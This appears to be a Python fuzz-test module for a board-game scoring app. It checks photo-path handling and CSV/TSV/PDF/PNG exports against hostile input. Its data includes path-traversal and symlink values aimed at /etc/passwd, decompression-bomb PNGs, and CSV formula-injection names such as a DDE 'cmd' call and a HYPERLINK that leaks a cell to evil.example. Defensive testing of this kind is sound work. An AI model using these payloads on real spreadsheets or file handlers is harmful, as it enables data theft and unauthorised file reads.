"""Photo paths and exports fuzzing (outside input: a photo path stays in its
folder, a photo is bounded, an export is safe and honest).

``fuzz_photos``: every built game's example boards with hostile photo values
(absolute paths, dot-dot chains, links in and out of the folder, a FIFO, a
device, a folder, huge-dimension tiny pictures, truncated and garbage
pictures, very long names, NUL and control characters, not text at all),
opened through ``gardenapp score`` (in-process, ``--json``) and, when a
QApplication exists, the game's score helper (Open, then every tab shown).
The one loading function, ``gardenapp.ui.photo._decode``, is spied on: a
case is "wrong" if it read a file outside the board's folder that the person
did not pick, or if a photo the rule refuses has no warning naming its entry
(``players[i].photo``); a traceback, a hang (over 5 s) or a changed board
file is a failure too.

``fuzz_exports``: sheets with hostile names (formulas, tabs, line breaks,
long and non-Latin text) and negative scores, exported as CSV, TSV, PDF and
PNG to a new file, an existing file, a FIFO, a link to /dev/full, a
read-only file and a folder (through the score helper's Export a fifth of
the time). "wrong": a formula cell left as it is, a number quoted, a TSV row
of the wrong width, success reported with a file that is not the export,
a refusal that changed the target.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import random
import shutil
import struct
import time
import zlib
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

from tests.fuzz import harness
from tests.fuzz.harness import TIME_LIMIT, Outcome, Report, deadline

POSIX = os.name == "posix"


# -- pictures -------------------------------------------------------------------------------------
def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def huge_png(path: Path, width: int, height: int, rows: int | None = None) -> Path:
    """A PNG of ``width`` x ``height`` RGB pixels of one colour, small however
    large (rows compressed as they are made); ``rows`` cuts the data short (a
    truncated file that still claims the whole size)."""
    pack = zlib.compressobj(9)
    row = b"\x00" + b"\x7a\x9a\x5a" * width
    data = [pack.compress(row) for _ in range(height if rows is None else rows)] + [pack.flush()]
    with open(path, "wb") as out:
        out.write(b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)))
        out.write(_png_chunk(b"IDAT", b"".join(data)) + _png_chunk(b"IEND", b""))
    return path


# -- one case's folder ----------------------------------------------------------------------------
# Photo values and whether the rule (core.files.resolve_inside) lets them be
# opened: "in" (a regular file inside), "missing" (inside, not there: a
# warning that says so), "out" (refused: a warning naming the entry).
VALUES: list[tuple[str, str]] = [
    ("ok.png", "in"),
    ("sub/ok.png", "in"),
    ("./sub//ok.png", "in"),
    ("sub/../ok.png", "in"),
    ("huge.png", "in"),
    ("trunc.png", "in"),
    ("garbage.png", "in"),
    ("empty.png", "in"),
    ("text.svg", "in"),
    ("nothing.png", "missing"),
    ("sub/nothing.png", "missing"),
    ("../outside/secret.png", "out"),
    ("sub/../../outside/secret.png", "out"),
    ("..\\outside\\secret.png", "out"),
    ("/etc/passwd", "out"),
    ("/dev/zero", "out"),
    ("C:\\Windows\\win.ini", "out"),
    ("\\\\server\\x.png", "out"),
    ("", "out"),
    ("ok\x00.png", "out"),
    ("ok\x1b]0;x\x07.png", "out"),
    ("sub\n.png", "out"),
    ("x/" * 600, "out"),
    ("dir.png", "out"),
]
POSIX_VALUES: list[tuple[str, str]] = [
    ("link_in.png", "in"),
    ("sub/link_up.png", "in"),
    ("link_out.png", "out"),
    ("link_etc.png", "out"),
    ("link_zero.png", "out"),
    ("fifo.png", "out"),
    ("sub/up/outside/secret.png", "out"),
    ("loop.png", "out"),
    ("dangling.png", "out"),
]


def _case_folder(root: Path) -> tuple[Path, Path]:
    """A fresh board folder with every kind of photo (and a secret picture
    beside it); (board folder, the secret)."""
    shutil.rmtree(root, ignore_errors=True)
    board, outside = root / "board", root / "outside"
    (board / "sub").mkdir(parents=True)
    outside.mkdir()
    small = huge_png(outside / "secret.png", 40, 30)
    shutil.copy(small, board / "ok.png")
    shutil.copy(small, board / "sub" / "ok.png")
    huge_png(board / "huge.png", 100_000, 100_000, rows=3)  # claims 10^10 pixels
    (board / "trunc.png").write_bytes(small.read_bytes()[:60])
    (board / "garbage.png").write_bytes(os.urandom(2000))
    (board / "empty.png").write_bytes(b"")
    (board / "text.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="/etc/passwd"/></svg>', encoding="utf-8"
    )
    (board / "dir.png").mkdir()
    if POSIX:
        (board / "link_in.png").symlink_to("sub/ok.png")
        (board / "sub" / "link_up.png").symlink_to("../ok.png")
        (board / "link_out.png").symlink_to("../outside/secret.png")
        (board / "link_etc.png").symlink_to("/etc/passwd")
        (board / "link_zero.png").symlink_to("/dev/zero")
        (board / "sub" / "up").symlink_to("../..")
        (board / "loop.png").symlink_to("loop.png")
        (board / "dangling.png").symlink_to("../outside/none.png")
        os.mkfifo(board / "fifo.png")
    return board, small


def _photo_values(rng: random.Random, players: int) -> list[tuple[Any, str]]:
    pool = VALUES + (POSIX_VALUES if POSIX else [])
    out: list[tuple[Any, str]] = []
    for _ in range(players):
        r = rng.random()
        if r < 0.1:
            out.append((None, "none"))
        elif r < 0.14:
            out.append((rng.choice((7, [], {"p": 1}, True)), "broken"))
        elif r < 0.2:
            out.append(("../" * rng.randrange(1, 40) + rng.choice(("etc/passwd", "outside/secret.png", "")), "out"))
        elif r < 0.24:
            out.append(("a" * rng.randrange(250, 1100) + ".png", "missing"))  # too long for the disk, or for us
        else:
            out.append(rng.choice(pool))
    return out


@contextlib.contextmanager
def _spy_loader() -> Iterator[list[str]]:
    """Every path the one photo loader reads (``photo._decode``), while inside."""
    try:
        from gardenapp.ui import photo
    except ImportError:  # no Qt: nothing can load a photo
        yield []
        return
    seen: list[str] = []
    real = photo._decode

    def spy(path: str):
        seen.append(os.path.realpath(path))
        return real(path)

    photo._decode = spy
    try:
        yield seen
    finally:
        photo._decode = real


def _inside(path: str, folder: Path) -> bool:
    root = os.path.realpath(folder)
    return os.path.commonpath([root, path]) == root


def _cli(path: Path, kinds: list[str]) -> Outcome:
    """``gardenapp score --json`` of the board: scored with a warning naming
    each refused or missing photo, none for a good one; refused (exit 2) when
    a photo is not text; nothing outside read."""
    before = path.read_bytes()
    start = time.perf_counter()
    try:
        with _spy_loader() as seen, deadline(TIME_LIMIT * 2):
            code, out, err = harness.score_in_process(path, True)
    except TimeoutError as exc:
        return Outcome("hang", str(exc))
    except BaseException as exc:  # noqa: BLE001 - any escape is the failure being looked for
        return Outcome("traceback", f"{type(exc).__name__}: {exc}"[:300])
    if time.perf_counter() - start > TIME_LIMIT:
        return Outcome("hang", f"{time.perf_counter() - start:.1f} s")
    if path.read_bytes() != before:
        return Outcome("changed")
    if seen:
        return Outcome("wrong", f"the command line read a photo: {seen[0]}")
    if "broken" in kinds:
        return Outcome("refused") if code == 2 and err.strip() and not out else Outcome("wrong", f"exit {code}")
    if code != 0 or err.strip():
        return Outcome("wrong", f"exit {code}: {err[:200]}")
    warnings = json.loads(out)["warnings"]
    for i, kind in enumerate(kinds):
        named = [w for w in warnings if w.startswith(f"players[{i}].photo: ")]
        if kind in ("out", "missing") and not named:
            return Outcome("wrong", f"no warning for players[{i}].photo ({kind})")
        if kind in ("in", "none") and named:
            return Outcome("wrong", f"a warning for a good photo: {named[0][:150]}")
    return Outcome("accepted")


def _helper(helper, path: Path, kinds: list[str], board: Path, rng: random.Random, picked: Path) -> Outcome:
    """The score helper's Open, then every tab shown (each photo loaded) and
    sometimes a photo picked from outside the folder."""
    allowed = {os.path.realpath(picked)}
    replaced = -1  # the tab whose photo the person picked: its refusal is gone with it
    try:
        with _spy_loader() as seen:
            outcome = harness.check_helper(helper, path)
            if outcome.kind != "accepted":
                return Outcome("refused") if outcome.kind == "refused" and "broken" in kinds else outcome
            with deadline(TIME_LIMIT * 2):
                start = time.perf_counter()
                for i in range(helper.tabs.count()):
                    helper.tabs.setCurrentIndex(i)
                if rng.random() < 0.3 and helper.use_photo(str(picked)):
                    replaced = helper.tabs.currentIndex()
                elapsed = time.perf_counter() - start
    except TimeoutError as exc:
        return Outcome("hang", str(exc))
    except BaseException as exc:  # noqa: BLE001
        return Outcome("traceback", f"{type(exc).__name__}: {exc}"[:300])
    if elapsed > TIME_LIMIT:
        return Outcome("hang", f"{elapsed:.1f} s showing the photos")
    wrong = [p for p in seen if not _inside(p, board) and p not in allowed]
    if wrong:
        return Outcome("wrong", f"read a photo outside the folder: {wrong[0]}")
    texts = [helper.problems.item(k).text() for k in range(helper.problems.count())]
    for i, kind in enumerate(kinds[: helper.tabs.count()]):
        if kind == "out" and i != replaced and not any(f"(players[{i}].photo) was not opened" in t for t in texts):
            return Outcome("wrong", f"no warning for players[{i}].photo")
    return Outcome("accepted")


def fuzz_photos(folder: Path, count: int, rng: random.Random, report: Report) -> None:
    from PySide6.QtWidgets import QApplication

    qt = QApplication.instance() is not None
    games = [g for g in harness.built_games() if harness.example_boards(g)]
    helpers: dict[str, Any] = {}
    for k in range(count):
        game = games[k % len(games)]
        data = json.loads(json.dumps(rng.choice(harness.example_boards(game))))
        board, secret = _case_folder(folder / f"photos-{k % 4}")
        values = _photo_values(rng, len(data["players"]))
        kinds = []
        for player, (value, kind) in zip(data["players"], values):
            player.pop("photo", None)
            if kind != "none":
                player["photo"] = value
            kinds.append(kind)
        path = board / "game.json"
        path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
        what = "photos " + ", ".join(repr(v)[:40] for v, _ in values)
        report.add("photos", game.id, _cli(path, kinds), what)
        if qt:
            if game.id not in helpers:
                helpers[game.id] = harness.score_helper(game)
            helper = helpers[game.id]
            if helper is not None:
                report.add("photos-ui", game.id, _helper(helper, path, kinds, board, rng, secret), what)
    for helper in helpers.values():
        if helper is not None:
            helper.deleteLater()


# -- exports --------------------------------------------------------------------------------------
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    " =1+1",
    "\t=x",
    "\r=x",
    "=cmd|' /C calc'!A0",
    "Łucja",
    "João",
    "Zoë",
    "a=b",
    "Ana\tBo",
    "x\ny",
    '"quoted"',
    "x" * 100,
    "=" * 5,
    "-",
    "+",
    "@",
    "'=already",
    "%0A=1",
    "ｰ1",
    "\u202e=1",
)


def _names(rng: random.Random, n: int) -> list[str]:
    names: list[str] = []
    while len(names) < n:
        name = (
            rng.choice(NAMES)
            if rng.random() < 0.8
            else "".join(rng.choice("=+-@ \t\rabcŁ01;,\"'") for _ in range(rng.randrange(1, 12)))
        )
        if name not in names:
            names.append(name)
    return names


def _sheet(rng: random.Random):
    from gardenapp.core.score import PlayerScore, RuleScore, ScoreSheet

    n = rng.randrange(1, 5)
    rules = rng.sample(["trees", "water", "fields", "mountains", "buildings"], rng.randrange(1, 5))
    players = tuple(
        PlayerScore(name, tuple(RuleScore(r, rng.randrange(-30, 60)) for r in rules)) for name in _names(rng, n)
    )
    best = max(p.total for p in players)
    return ScoreSheet(
        "harmonies", players, tuple(i for i, p in enumerate(players) if p.total == best), tie_is_draw=rng.random() < 0.2
    )


def _neutral(cell: str) -> bool:
    return cell.startswith("'") or not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))


def _check_csv(raw: bytes, sheet) -> str:
    if not raw.startswith(b"\xef\xbb\xbf"):
        return "no byte-order mark"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    if rows[3:4] != [[]]:
        return "no blank line after the game, date and winner lines"
    head, table = rows[:3], rows[4:]
    if not all(_neutral(c) for row in head for c in row):
        return f"a formula in the header lines: {head}"
    if len(table) != len(sheet.rules) + 2 or any(len(r) != len(sheet.players) + 1 for r in table):
        return "the table has the wrong shape"
    if not all(_neutral(c) for c in table[0]) or not all(_neutral(r[0]) for r in table):
        return f"a formula left in a text cell: {table[0]}"
    totals = [str(p.total) for p in sheet.players]
    if table[-1][1:] != totals:
        return f"the totals are {table[-1][1:]}, not {totals}"
    return ""


def _check_tsv(text: str, sheet) -> str:
    rows = [line.split("\t") for line in text.splitlines()]
    if len(rows) != len(sheet.rules) + 2 or any(len(r) != len(sheet.players) + 1 for r in rows):
        return "a TSV row of the wrong width"
    if not all(_neutral(c) for c in rows[0]) or not all(_neutral(r[0]) for r in rows):
        return f"a formula left on the clipboard: {rows[0]}"
    if rows[-1][1:] != [str(p.total) for p in sheet.players]:
        return "the TSV totals are not numbers"
    return ""


def _target(folder: Path, kind: str, rng: random.Random) -> tuple[Path, str]:
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    choices = ["new", "existing", "readonly", "folder"] + (["fifo", "full", "link"] if POSIX else [])
    what = rng.choice(choices)
    path = folder / f"out.{kind}"
    if what == "existing":
        path.write_bytes(b"an older export")
    elif what == "readonly":
        path.write_bytes(b"kept")
        path.chmod(0o444)
    elif what == "folder":
        path.mkdir()
    elif what == "fifo":
        os.mkfifo(path)
    elif what == "full":
        path.symlink_to("/dev/full")
    elif what == "link":
        (folder / "real").mkdir()
        path.symlink_to(folder / "real" / f"target.{kind}")
    return path, what


def _state(path: Path) -> Any:
    try:
        real = os.path.realpath(path)
        st = os.stat(real)
        return (real, st.st_mode, Path(real).read_bytes() if os.path.isfile(real) else None)
    except OSError:
        return None


def _written(path: Path, kind: str, expected_csv: bytes | None) -> str:
    real = Path(os.path.realpath(path))
    if not real.is_file():
        return "success reported, no regular file there"
    raw = real.read_bytes()
    if kind == "csv" and raw != expected_csv:
        return "success reported, the file is not the CSV"
    if kind == "pdf" and not (raw.startswith(b"%PDF") and raw.rstrip().endswith(b"%%EOF")):
        return "success reported, the file is not a whole PDF"
    if kind == "png" and not raw.startswith(b"\x89PNG"):
        return "success reported, the file is not a PNG"
    return ""


def _export_in_helper(helper, kind: str, path: Path) -> tuple[bool, list[str]]:
    """The score helper's Export to ``path``: (success, the messages shown)."""
    from unittest import mock

    from PySide6.QtWidgets import QFileDialog, QMessageBox

    shown: list[str] = []
    with (
        mock.patch.object(QFileDialog, "getSaveFileName", lambda *a, **kw: (str(path), "")),
        mock.patch.object(QMessageBox, "warning", lambda *a, **kw: shown.append(a[2])),
    ):
        return helper.export(kind), shown


def fuzz_exports(folder: Path, count: int, rng: random.Random, report: Report) -> None:
    from PySide6.QtWidgets import QApplication

    from gardenapp.core import registry
    from gardenapp.ui.export import ScorePage, sheet_csv, sheet_tsv, write_csv, write_pdf, write_png

    qt = QApplication.instance() is not None
    helper = None
    for k in range(count):
        sheet = _sheet(rng)
        when = date(2025, 1, 1 + k % 28)
        text = sheet_csv(sheet, "Harmonies", when)
        why = _check_csv(b"\xef\xbb\xbf" + text.encode("utf-8"), sheet) or _check_tsv(sheet_tsv(sheet), sheet)
        report.add("exports", "text", Outcome("wrong", why) if why else Outcome("accepted"), repr(sheet.players)[:120])
        kind = rng.choice(("csv", "pdf", "png") if qt else ("csv",))
        path, what = _target(folder / f"export-{k % 4}", kind, rng)
        before = _state(path)
        page = ScorePage("Harmonies", sheet, "", [], when)
        shown: list[str] = []
        through_helper = qt and rng.random() < 0.2
        start = time.perf_counter()
        try:
            with deadline(TIME_LIMIT * 2):
                if through_helper:
                    if helper is None:
                        helper = harness.score_helper(registry.get("harmonies"))
                        helper.open_path(
                            str(harness.ROOT / "gardenapp/games/harmonies/examples" / "rulebook_full_board_side_a.json")
                        )
                    page = helper.score_page()
                    ok, shown = _export_in_helper(helper, kind, path)
                else:
                    try:
                        {"csv": write_csv, "pdf": write_pdf, "png": write_png}[kind](page, path)
                        ok = True
                    except OSError as exc:
                        ok, shown = False, [str(exc)]
        except TimeoutError as exc:
            report.add("exports", what, Outcome("hang", str(exc)), f"{kind} to {what}")
            continue
        except BaseException as exc:  # noqa: BLE001
            report.add("exports", what, Outcome("traceback", f"{type(exc).__name__}: {exc}"[:300]), f"{kind} to {what}")
            continue
        elapsed = time.perf_counter() - start
        expected = ("\ufeff" + sheet_csv(page.sheet, page.game_name, page.when)).encode("utf-8", "replace")
        if elapsed > TIME_LIMIT:
            outcome = Outcome("hang", f"{elapsed:.1f} s")
        elif ok:
            why = _written(path, kind, expected)
            if what in ("fifo", "full", "readonly", "folder"):
                why = why or f"success reported writing to a {what}"
            outcome = Outcome("wrong", why) if why else Outcome("accepted")
        elif len(shown) != 1:
            outcome = Outcome("wrong", f"refused with {len(shown)} messages")
        elif _state(path) != before:
            outcome = Outcome("changed", f"a refused export changed the {what}")
        elif what in ("new", "existing", "link"):
            outcome = Outcome("wrong", f"refused a {what} file: {shown[0][:150]}")
        else:
            outcome = Outcome("refused")
        report.add("exports", what, outcome, f"{kind} to {what}{' (helper)' if through_helper else ''}")
        with contextlib.suppress(OSError):
            path.chmod(0o644)
    if helper is not None:
        helper.deleteLater()
